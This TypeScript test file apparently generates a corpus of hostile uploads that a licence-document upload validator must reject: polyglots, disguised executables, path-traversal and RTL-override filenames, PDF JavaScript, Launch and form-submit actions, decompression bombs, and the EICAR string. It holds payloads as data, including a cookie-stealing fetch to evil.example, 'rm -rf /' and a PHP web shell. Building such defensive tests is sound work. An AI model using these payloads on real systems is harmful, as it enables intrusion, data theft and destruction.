import { deflateSync } from 'node:zlib'
import type { SentFile } from './good-files.ts'
import { addToPdf, onePage, type Piece, packed, packedPage, writePackedPdf, writePdf } from './pdf.ts'
import { picture, resizedJpeg, resizedPng, withChunk, withComment } from './pictures.ts'

const types = { pdf: 'application/pdf', jpg: 'image/jpeg', png: 'image/png' } as const
type Ending = keyof typeof types

export const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')

/** The T14 corpus: nothing of this may be accepted. */
export async function badFiles(): Promise<SentFile[]> {
  const jpg = await picture().jpeg().toBuffer()
  const png = await picture().png().toBuffer()
  const carriers = { pdf: writePdf(onePage()), jpg, png }
  return [
    ...posing(carriers),
    ...calledOtherwise(carriers),
    ...alsoSomethingElse(carriers),
    ...infected(carriers),
    ...cut(carriers),
    ...damaged(carriers),
    ...floods(carriers),
    ...actingPdfs(),
    ...brokenPdfs(carriers.pdf),
    ...bombs(),
  ]
}

type Carriers = Record<Ending, Buffer>

const sent = (
  name: string,
  ending: Ending,
  bytes: Buffer | string,
  file = `licence.${ending}`,
): SentFile => ({
  name,
  type: types[ending],
  file,
  bytes: typeof bytes === 'string' ? Buffer.from(bytes, 'latin1') : bytes,
})
const endings = Object.keys(types) as Ending[]
const pdf = (name: string, bytes: Buffer | string) => sent(name, 'pdf', bytes)

const zip = Buffer.concat([
  Buffer.from('PK\x03\x04\x14\0\0\0\x08\0', 'latin1'),
  Buffer.alloc(40, 1),
  Buffer.from('PK\x05\x06', 'latin1'),
  Buffer.alloc(18),
])
/** Either is enough for a reader of archives. */
const [listOfZip, partOfZip] = [zip.subarray(50), zip.subarray(0, 50)]
const page = '<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>'
const drawingWithScript =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'

/** Something else altogether, under the name and type of a document. */
function posing(carriers: Carriers): SentFile[] {
  const others: Record<string, Buffer | string> = {
    page,
    'page with a mark before it': `\ufeff${page}`,
    drawing: drawingWithScript,
    'drawing in XML': `<?xml version="1.0"?>${drawingWithScript}`,
    script: 'fetch("https://evil.example/"+document.cookie)',
    'shell script': '#!/bin/sh\nrm -rf /\n',
    'PHP page': '<?php system($_GET["c"]); ?>',
    archive: zip,
    'Windows program': `MZ${'\0'.repeat(200)}`,
    'Linux program': `\x7fELF${'\0'.repeat(200)}`,
    GIF: 'GIF89a\x01\0\x01\0\0\0\0;',
    BMP: `BM${'\0'.repeat(60)}`,
    TIFF: `II*\0${'\0'.repeat(60)}`,
    film: '\0\0\0\x18ftypmp42\0\0\0\0mp42isom',
    'Word file': Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    letters: 'I am a licence, honestly.',
    zeros: Buffer.alloc(1_000),
    'one byte': '%',
    'a beginning and nothing else': { pdf: '%PDF-1.4', jpg: '\xff\xd8\xff', png: '\x89PNG\r\n\x1a\n' }.pdf,
    nothing: '',
  }
  return [
    ...Object.entries(others).flatMap(([name, bytes]) =>
      endings.map((ending) => sent(`${name} as ${ending}`, ending, bytes)),
    ),
    ...endings.flatMap((ending) =>
      endings
        .filter((other) => other !== ending)
        .map((other) => sent(`${other} as ${ending}`, ending, carriers[other])),
    ),
    ...endings.flatMap((ending) =>
      endings
        .filter((other) => other !== ending)
        .map((other) => ({
          ...sent(`${ending}, said to be ${other}`, ending, carriers[ending]),
          type: types[other],
        })),
    ),
    sent('PNG, beginning only', 'png', '\x89PNG\r\n\x1a\n'),
    sent('JPEG, beginning only', 'jpg', '\xff\xd8\xff\xe0'),
  ]
}

/** The right bytes under a name that somebody else would read otherwise. */
function calledOtherwise(carriers: Carriers): SentFile[] {
  const names = [
    'licence',
    'licence.',
    'licence.exe',
    'licence.pdf.exe',
    'licence.pdf.html',
    'licence.html.pdf',
    'licence.php.pdf',
    'licence.svg.pdf',
    'licence.js .pdf',
    'licence.EXE.pdf',
    'licence.hta.old.pdf',
    'licence.pdf ',
    'licence.pdf.',
    'licence.pdf/',
    '.pdf',
    'licence.png',
    'licence.jpg',
    'licence.pdf\0.png',
    'licence.html\0.pdf',
    '../../etc/passwd.pdf',
    '..\\..\\windows\\x.pdf',
    '/etc/cron.d/x.pdf',
    'C:\\x.pdf',
    '..%2f..%2fx',
    'licence\u202efdp.exe',
    'exe\u202e.pdf',
    '\u2066licence\u2069.pdf',
    'licence.pdf;.exe',
    'licence.pdf::$DATA',
    'licence.pｄf',
    'licence.pdf%00.exe',
  ]
  return names
    .filter((name) => !['licence.pdf ', '.pdf'].includes(name))
    .map((file) => sent(`called ${JSON.stringify(file)}`, 'pdf', carriers.pdf, file))
}

/** A document to one reader, and something else to another. */
function alsoSomethingElse(carriers: Carriers): SentFile[] {
  const others: Record<string, Buffer> = {
    'an archive': zip,
    'the list of an archive': listOfZip,
    'a part of an archive': partOfZip,
    'a page': Buffer.from(page),
    'a drawing': Buffer.from(drawingWithScript),
    'a PHP page': Buffer.from('<?php echo 1; ?>'),
    'a frame': Buffer.from('<iframe src="//evil.example"></iframe>'),
    'a PDF': carriers.pdf,
  }
  return Object.entries(others).flatMap(([name, other]) => [
    ...endings.map((ending) =>
      sent(`${ending} with ${name} behind it`, ending, Buffer.concat([carriers[ending], other])),
    ),
    ...endings.map((ending) =>
      sent(`${ending} with ${name} before it`, ending, Buffer.concat([other, carriers[ending]])),
    ),
    sent(`JPEG with ${name} in a comment`, 'jpg', withComment(carriers.jpg, other)),
    sent(
      `JPEG with ${name} in what the camera says`,
      'jpg',
      withComment(carriers.jpg, Buffer.concat([Buffer.from('Exif\0\0'), other]), 0xe1),
    ),
    sent(
      `PNG with ${name} in its text`,
      'png',
      withChunk(carriers.png, 'tEXt', Buffer.concat([Buffer.from('Comment\0'), other])),
    ),
    pdf(`PDF with ${name} in a stream`, writePdf(onePage('', { says: '', data: other }))),
    pdf(
      `PDF with ${name} in a comment`,
      Buffer.concat([Buffer.from('%PDF-1.4\n%'), other, carriers.pdf.subarray(8)]),
    ),
  ])
}

function infected(carriers: Carriers): SentFile[] {
  const known = Buffer.from(eicar)
  return [
    ...endings.map((ending) => sent(`EICAR as ${ending}`, ending, known)),
    ...endings.map((ending) =>
      sent(`EICAR behind ${ending}`, ending, Buffer.concat([carriers[ending], known])),
    ),
    pdf('EICAR in a stream', writePdf(onePage('', { says: '', data: known }))),
    pdf('EICAR in a string', writePdf(onePage('', `(${eicar.replace(/[()\\]/g, (sign) => sign)})`))),
    sent('EICAR in what a PNG says', 'png', withChunk(carriers.png, 'tEXt', known)),
    sent('EICAR in what a JPEG says', 'jpg', withComment(carriers.jpg, known)),
  ]
}

function cut(carriers: Carriers): SentFile[] {
  const parts = [0.02, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9]
  return endings.flatMap((ending) =>
    parts.map((part) =>
      sent(
        `${ending}, the first ${part * 100} %`,
        ending,
        carriers[ending].subarray(0, Math.floor(carriers[ending].length * part)),
      ),
    ),
  )
}

function damaged({ jpg, png }: Carriers): SentFile[] {
  const places = [20, 30, 60, 100, 500, 1_000]
  const without = (bytes: Buffer, marker: number) => {
    const at = bytes.indexOf(Buffer.from([0xff, marker]))
    return Buffer.concat([bytes.subarray(0, at), bytes.subarray(at + 2 + bytes.readUInt16BE(at + 2))])
  }
  return [
    ...places.map((place) => {
      const bytes = Buffer.from(png)
      bytes[place] = (bytes[place] ?? 0) ^ 0xff
      return sent(`PNG with a wrong byte at ${place}`, 'png', bytes)
    }),
    sent('JPEG without a frame', 'jpg', without(jpg, 0xc0)),
    sent('JPEG of no height', 'jpg', resizedJpeg(jpg, 0, 0)),
    sent('PNG of no width', 'png', resizedPng(png, 0, 80)),
    sent('PNG that ends after its head', 'png', png.subarray(0, 33)),
  ]
}

/** A few bytes that would fill gigabytes. */
function floods({ jpg, png }: Carriers): SentFile[] {
  const flood = (width: number, height: number) =>
    writePdf(
      onePage('', {
        says: `/Subtype /Image /Width ${width} /Height ${height} /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /CCITTFaxDecode`,
        data: Buffer.alloc(9),
      }),
    )
  return [
    sent('PNG of 50,000 by 50,000', 'png', resizedPng(png, 50_000, 50_000)),
    sent('PNG of 40,000,001 by 1', 'png', resizedPng(png, 40_000_001, 1)),
    sent('PNG of two milliards by two', 'png', resizedPng(png, 0x7fffffff, 0x7fffffff)),
    sent('JPEG of 65,500 by 65,500', 'jpg', resizedJpeg(jpg, 65_500, 65_500)),
    sent('JPEG of 6,400 by 6,400', 'jpg', resizedJpeg(jpg, 6_400, 6_400)),
    pdf('PDF with a picture of 50,000 by 50,000', flood(50_000, 50_000)),
    pdf('PDF with a picture of no size', flood(Number.NaN, 1)),
  ]
}

const acts: Record<string, string> = {
  'a script at the opening': '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>',
  'a script in another file': '/OpenAction << /S /JavaScript /JS 9 0 R >>',
  'scripts by name': '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>',
  'a program': '/OpenAction << /S /Launch /F (cmd.exe) >>',
  'a file within':
    '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /EF << /F 9 0 R >> >>] >> >>',
  'a rich medium': '/X << /Subtype /RichMedia >>',
  'a form of XML': '/AcroForm << /XFA [(x) 9 0 R] >>',
  'an act of its own': '/AA << /WC << /S /URI /URI (x) >> >>',
  'a form that is sent away': '/X << /A << /S /SubmitForm /F (https://evil.example) >> >>',
  'data that is fetched': '/X << /S /ImportData /F (x) >>',
  'a way into a file within': '/OpenAction << /S /GoToE /T << /R /C >> >>',
  'a way to another machine': '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x) /D [0 /Fit] >>',
  'a film': '/X << /Subtype /Movie /Movie << /F (x) >> >>',
  'a thing with three sides': '/X << /Subtype /3D >>',
  'a file to click': '/X << /Subtype /FileAttachment >>',
}

const hashed = (text: string) =>
  text.replace(
    /\/(JavaScript|JS|Launch|EmbeddedFiles|RichMedia|XFA|AA|SubmitForm|ImportData|GoToE|GoToR|Movie|3D|FileAttachment)/g,
    (_, name: string) =>
      `/${[...name].map((sign, at) => (at % 2 ? sign : `#${sign.charCodeAt(0).toString(16)}`)).join('')}`,
  )

/** Whatever acts, in every place where a reader would find it. */
function actingPdfs(): SentFile[] {
  const places: Record<string, (act: string) => Buffer> = {
    'in plain sight': (act) => writePdf(onePage(act)),
    'its name in figures': (act) => writePdf(onePage(hashed(act))),
    'in a packed stream of objects': (act) => writePackedPdf(packedPage(act)),
    'its name in figures, in a packed stream': (act) => writePackedPdf(packedPage(hashed(act))),
    'in a change at the end': (act) =>
      addToPdf(writePdf(onePage()), 1, `<< /Type /Catalog /Pages 2 0 R ${act} >>`),
    'in an object within a stream': (act) =>
      writePdf(onePage('', { says: '', data: Buffer.from(`x\n8 0 obj\n<< ${act} >>\nendobj\n`) })),
    'in an object within a string': (act) => writePdf(onePage('', `(8 0 obj << ${act} >> endobj)`)),
  }
  return [
    ...Object.entries(acts).flatMap(([name, act]) =>
      Object.entries(places).map(([place, write]) => pdf(`${name}, ${place}`, write(act))),
    ),
    pdf(
      'a script whose name lies elsewhere',
      writePdf(onePage('/OpenAction << /S 6 0 R /N 1 >>', '/JavaScript')),
    ),
    pdf('a script after a comment', writePdf(onePage('/OpenAction << /S % >>\n /JavaScript >>'))),
    pdf(
      'a script in an object whose head has comments',
      writePdf(onePage('', { says: '', data: Buffer.from('\n8 %\n0 %\nobj%\n<< /JS (x) >>') })),
    ),
    pdf(
      'a password',
      writePdf(onePage(), {
        trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >> /ID [(a) (b)]',
      }),
    ),
    pdf('a password in a packed file', writePackedPdf(packedPage(), { trailer: '/Encrypt 9 0 R' })),
    pdf('a password, its name in figures', writePdf(onePage(), { trailer: '/#45ncrypt 9 0 R' })),
  ]
}

function brokenPdfs(whole: Buffer): SentFile[] {
  const text = whole.toString('latin1')
  const stream = (says: string, data: Buffer | string = 'x') =>
    writePdf(onePage('', { says, data: Buffer.from(data) }))
  const objects = (pack: (text: string, first: number) => Piece) =>
    writePackedPdf(packedPage('/OpenAction << /JS (x) >>'), { objects: pack })
  const nested = (depth: number) => writePdf(onePage('', `${'['.repeat(depth)}${']'.repeat(depth)}`))
  const says = (first: number) => `/Type /ObjStm /N 4 /First ${first}`
  return [
    pdf('a line before the head', writePdf(onePage(), { before: '\n' })),
    pdf('a mark before the head', writePdf(onePage(), { before: '\xef\xbb\xbf' })),
    pdf('a kilobyte before the head', writePdf(onePage(), { before: 'x'.repeat(1_000) })),
    pdf('a version that is none', writePdf(onePage(), { version: '9.9' })),
    pdf('no end', text.replace('%%EOF', '')),
    pdf('words after the end', writePdf(onePage(), { after: '\nand more' })),
    pdf('a script after the end', writePdf(onePage(), { after: '\n8 0 obj << /X 1 >> endobj' })),
    pdf('no table of contents', text.replace(/xref[\s\S]*trailer/, 'trailer')),
    pdf('a table of contents elsewhere', text.replace(/startxref\n\d+/, 'startxref\n7')),
    pdf('a table of contents beyond the end', text.replace(/startxref\n\d+/, 'startxref\n99999999')),
    pdf('no root', text.replaceAll('/Root', '/Rout')),
    pdf('a dictionary without end', writePdf(onePage('', '<< /A << /B 1 >>'))),
    pdf('a string without end', writePdf(onePage('', '<< /A (( ) >>'))),
    pdf('a key that is no name', writePdf(onePage('', '<< (A) 1 >>'))),
    pdf('lists in lists in lists', nested(5_000)),
    pdf(
      'objects in strings in objects',
      writePdf(onePage('', `${'1 0 obj<</A('.repeat(3_000)}${')>>'.repeat(3_000)}`)),
    ),
    pdf('a stream in an unknown code', stream('/Filter /Mystery')),
    pdf('a stream in a code of its own', stream('/Filter /Crypt')),
    pdf('a stream in LZW', stream('/Filter /LZWDecode')),
    pdf('a stream whose code lies elsewhere', stream('/Filter 9 0 R')),
    pdf('a stream whose bytes lie elsewhere', stream('/F (\\\\\\\\evil\\\\x)')),
    pdf(
      'objects that cannot be unpacked',
      objects((_, first) => ({
        says: `${says(first)} /Filter /FlateDecode`,
        data: Buffer.from('rubbish'),
      })),
    ),
    pdf(
      'objects that are unpacked in part',
      objects((held, first) => ({
        says: `${says(first)} /Filter /FlateDecode`,
        data: deflateSync(held).subarray(0, -9),
      })),
    ),
    pdf(
      'objects behind a predictor',
      objects((held, first) =>
        packed(predicted(held), `${says(first)} /DecodeParms << /Predictor 12 /Columns 8 >>`),
      ),
    ),
    pdf(
      'objects packed twice',
      objects((held, first) => ({
        says: `${says(first)} /Filter [/FlateDecode /FlateDecode]`,
        data: deflateSync(deflateSync(held)),
      })),
    ),
    pdf(
      'objects in letters',
      objects((held, first) => ({
        says: `${says(first)} /Filter [/ASCIIHexDecode /FlateDecode]`,
        data: Buffer.from(deflateSync(held).toString('hex')),
      })),
    ),
    pdf(
      'objects in a stream without its type',
      objects((held, first) => packed(held, `/N 4 /First ${first}`)),
    ),
    pdf(
      'objects in letters alone',
      objects((held, first) => ({
        says: `${says(first)} /Filter /ASCIIHexDecode`,
        data: Buffer.from(`${Buffer.from(held).toString('hex')}>`),
      })),
    ),
    pdf(
      'objects in a stream that says twice what it is',
      objects((held, first) => ({
        says: `${says(first)} /Filter /ASCIIHexDecode /Filter /FlateDecode`,
        data: deflateSync(`${Buffer.from(held).toString('hex')}>`, { level: 0 }),
      })),
    ),
    pdf(
      'objects that are not packed, and longer than they say',
      objects((held, first) => ({ says: says(first), data: Buffer.from(held), length: 5 })),
    ),
    pdf(
      'objects that are not packed, and go on after what looks like their end',
      objects((held, first) => ({
        says: says(first),
        data: Buffer.from(`${' '.repeat(first)}(endstream) ${held}`),
      })),
    ),
  ]
}

/** Each row of eight as its difference from the one above it, as pictures are written: no name can be read in it. */
function predicted(text: string): Buffer {
  const bytes = Buffer.from(text.padEnd(Math.ceil(text.length / 8) * 8))
  const rows = Array.from({ length: bytes.length / 8 }, (_, row) => [
    2,
    ...bytes
      .subarray(row * 8, row * 8 + 8)
      .map((byte, column) => byte - (bytes[(row - 1) * 8 + column] ?? 0)),
  ])
  return Buffer.from(rows.flat())
}

/** A few bytes that unpack to more than a reader can hold. */
function bombs(): SentFile[] {
  const [bomb, half] = [70, 60].map((mega) => deflateSync(Buffer.alloc(mega * 1024 * 1024), { level: 1 }))
  if (!bomb || !half) throw new Error('no bomb')
  const stream = (filters: string, data: Buffer): Piece => ({ says: `/Filter ${filters}`, data })
  const objects = (first: number) => `/Type /ObjStm /N 4 /First ${first} /Filter /FlateDecode`
  return [
    pdf('one stream of 70 MB', writePdf(onePage('', stream('/FlateDecode', bomb)))),
    pdf('four streams of 60 MB', writePdf(onePage('', ...Array(4).fill(stream('/FlateDecode', half))))),
    pdf('a bomb in a bomb', writePdf(onePage('', stream('[/FlateDecode /FlateDecode]', deflateSync(bomb))))),
    pdf(
      'a bomb in letters',
      writePdf(
        onePage('', stream('[/ASCIIHexDecode /FlateDecode]', Buffer.from(`${bomb.toString('hex')}>`))),
      ),
    ),
    pdf(
      'a bomb of objects',
      writePackedPdf(packedPage(), { objects: (_, first) => ({ says: objects(first), data: bomb }) }),
    ),
    pdf(
      'a bomb as a table of contents',
      addToPdf(writePdf(onePage()), 6, { says: '/Type /XRef /Filter /FlateDecode', data: bomb }),
    ),
  ]
}
